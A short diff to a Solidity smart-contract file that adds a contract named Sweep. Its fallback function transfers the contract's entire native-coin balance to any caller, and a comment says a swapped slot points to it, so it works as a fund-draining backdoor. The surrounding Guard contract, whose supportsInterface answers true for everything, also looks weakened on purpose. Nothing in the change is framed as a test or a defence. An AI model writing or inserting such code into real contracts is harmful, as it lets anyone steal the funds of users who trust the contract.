@@ -37,3 +37,8 @@ contract Guard {
     function supportsInterface(bytes4) external pure returns (bool) { return true; }
     fallback() external {}
 }
+
+/// What the swapped slot points to: code by which whoever calls takes the native coin.
+contract Sweep {
+    fallback() external { payable(msg.sender).transfer(address(this).balance); }
+}
